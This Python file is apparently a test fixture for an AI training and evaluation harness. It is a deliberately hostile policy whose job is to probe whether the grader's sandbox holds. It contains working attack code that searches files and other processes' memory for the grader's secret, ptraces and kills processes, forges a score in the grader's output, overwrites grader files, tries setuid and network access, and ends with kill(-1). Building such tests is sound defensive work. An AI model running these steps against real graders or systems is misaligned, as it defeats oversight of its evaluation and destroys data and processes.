"""A submitted policy that tries every way it knows to reach the grader's secret, or to hurt the grader.

It is run by tests/fixtures/tasks/code-harness/eval/grade.py through $RGYM_SUBMISSION_RUNNER, reads the
grader's pid from stdin, and prints one JSON line: ``leaks`` (where it found a secret, with what it found)
and ``attempts`` (how many of each attack it made, so a test can tell "blocked" from "never tried").
A secret looks like ``RGYM-SECRET-`` followed by 32 hex digits; this file never contains one.
"""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import re
import signal
import socket
import stat
import sys

SECRET = re.compile(("RGYM-SECRET-" + "[0-9a-f]{32}").encode())
grader_pid = int(sys.stdin.readline().strip() or 0)
leaks: list[dict[str, str]] = []
attempts: dict[str, int] = {}
successes: dict[str, list[str]] = {}


def attempt(kind: str) -> None:
    attempts[kind] = attempts.get(kind, 0) + 1


def succeeded(kind: str, what: str) -> None:
    successes.setdefault(kind, []).append(what)


def look(where: str, data: bytes) -> None:
    for match in SECRET.finditer(data):
        leaks.append({"where": where, "found": match.group().decode()})


def read(path: str, limit: int = 1 << 20) -> bytes | None:
    """A regular file's first ``limit`` bytes (pipes, sockets and FIFOs would block: they are skipped)."""
    try:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return None
    try:
        if not stat.S_ISREG(os.fstat(fd).st_mode):
            return b""
        return os.read(fd, limit)
    except OSError:
        return None
    finally:
        os.close(fd)


# 1. the hidden files themselves, and a listing of /eval
for path in ("/eval/secret.txt", "/eval/grade.py"):
    attempt("open-eval")
    data = read(path)
    if data is not None:
        succeeded("open-eval", path)
        look(path, data)
attempt("list-eval")
with contextlib.suppress(OSError):
    succeeded("list-eval", ",".join(os.listdir("/eval")))

# 2. the whole filesystem (find / | xargs grep), system folders aside
skip = {"/proc", "/sys", "/dev", "/usr", sys.prefix, sys.base_prefix}
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip]
    for name in files:
        path = os.path.join(root, name)
        attempt("walk")
        if os.path.islink(path):
            continue
        data = read(path, 1 << 16)
        if data is not None:
            look(path, data)

# 3. every process we can see: environment, command line, memory, root and cwd, open descriptors
me = os.getpid()
pids = [int(p) for p in os.listdir("/proc") if p.isdigit()] if os.path.isdir("/proc") else []
for pid in [p for p in pids if p != me] + ([grader_pid] if grader_pid not in pids else []):
    base = f"/proc/{pid}"
    for part in ("environ", "cmdline", "maps", "status"):
        attempt(f"proc-{part}")
        data = read(f"{base}/{part}")
        if data is not None:
            look(f"{base}/{part}", data)
            if part == "environ" and data:
                succeeded("proc-environ", str(pid))
    attempt("proc-mem")
    maps = read(f"{base}/maps") or b""
    try:
        with open(f"{base}/mem", "rb") as mem:
            for line in maps.decode(errors="replace").splitlines():
                lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
                try:
                    mem.seek(lo)
                    look(f"{base}/mem", mem.read(min(hi - lo, 1 << 22)))
                    succeeded("proc-mem", str(pid))
                except (OSError, ValueError, OverflowError):
                    continue
    except OSError:
        pass
    for sub in (
        "root/eval/secret.txt",
        "cwd/secret.txt",
        "root/run/rgym-private",
        "root/tmp/grader-note.txt",
    ):
        attempt("proc-root")
        data = read(f"{base}/{sub}")
        if data is not None:
            look(f"{base}/{sub}", data)
    attempt("proc-fd")
    try:
        fds = os.listdir(f"{base}/fd")
    except OSError:
        fds = []
    for fd in fds:
        data = read(f"{base}/fd/{fd}", 1 << 16) if fd not in ("0",) else None
        if data is not None:
            look(f"{base}/fd/{fd}", data)
    # a fake verdict straight into the grader's stdout, if its descriptors were reachable
    for fd in ("1", "2"):
        attempt("proc-fd-write")
        try:
            out = os.open(f"{base}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
        except OSError:
            continue
        succeeded("proc-fd-write", f"{pid}/{fd}")
        try:
            os.write(out, b'\n{"score": -1000000.0}\n')
        except OSError:
            pass
        finally:
            os.close(out)

# 4. ptrace and signals against every process we can see (and the grader's pid, seen or not)
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17  # SEIZE: ATTACH's permission check, without stopping the target
for pid in {p for p in pids if p != me} | {grader_pid}:
    attempt("ptrace")
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
        succeeded("ptrace", str(pid))
        libc.ptrace(PTRACE_DETACH, pid, None, None)
    # signal 0 makes the same permission check as SIGKILL without killing (the positive control runs
    # this policy beside the grader, which must survive to report)
    attempt("kill")
    try:
        os.kill(pid, 0)
        succeeded("kill", str(pid))
    except OSError:
        for sig in (signal.SIGSTOP, signal.SIGKILL):  # refused too, or the grader will not report
            with contextlib.suppress(OSError):
                os.kill(pid, sig)

# 5. writing where the grader reads, or over its files
# new files in the grader's folders ("x": create only), and existing files ("r+": never create one)
for path, mode in (
    ("/eval/pwned", "x"),
    ("/submission/pwned", "x"),
    ("/run/rgym-private/pwned", "x"),
    ("/tmp/.rgym/session.sh.new", "x"),
    ("/submission/policy.py", "r+"),
    ("/tmp/grader-note.txt", "r+"),
):
    attempt("write")
    try:
        with open(path, mode) as fh:
            fh.write("pwned\n")
        succeeded("write", path)
    except OSError:
        pass
for path in ("/tmp/grader-note.txt", "/eval/secret.txt"):
    attempt("unlink")
    try:
        os.unlink(path)
        succeeded("unlink", path)
    except OSError:
        pass

# 6. privileges and the network
attempt("setuid")
try:
    os.setuid(0)
    succeeded("setuid", "0")
except OSError:
    pass
status = (read("/proc/self/status") or b"").decode()
caps = [line for line in status.splitlines() if line.startswith("CapEff:")]
if caps and int(caps[0].split()[1], 16) != 0:
    succeeded("capabilities", caps[0])
attempt("network")
try:
    socket.create_connection(("1.1.1.1", 53), timeout=2).close()
    succeeded("network", "1.1.1.1:53")
except OSError:
    pass
look("environment", "\0".join(f"{k}={v}" for k, v in os.environ.items()).encode())

# 7. undo what keeps the grader ahead: the OOM score and the CPU priority
attempt("oom-score")
try:
    with open("/proc/self/oom_score_adj", "w") as fh:
        fh.write("-1000")
    succeeded("oom-score", "-1000")
except OSError:
    pass
attempt("priority")
if os.getpriority(os.PRIO_PROCESS, 0) < 10:
    succeeded("priority", f"started at nice {os.getpriority(os.PRIO_PROCESS, 0)}")
try:
    os.setpriority(os.PRIO_PROCESS, 0, 0)
    succeeded("priority", "back to nice 0")
except OSError:
    pass
# 8. and last, everything this user may signal (kill(-1) spares only the caller); skipped when the grader
# was found signalable above (the positive control), where it would only hide that report
if "kill" not in successes:
    attempt("kill-all")
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)

# a forged verdict on our own stdout comes before the real report, which the harness reads last
print(json.dumps({"score": -1000000.0}))
print(json.dumps({"leaks": leaks, "attempts": attempts, "successes": successes}))
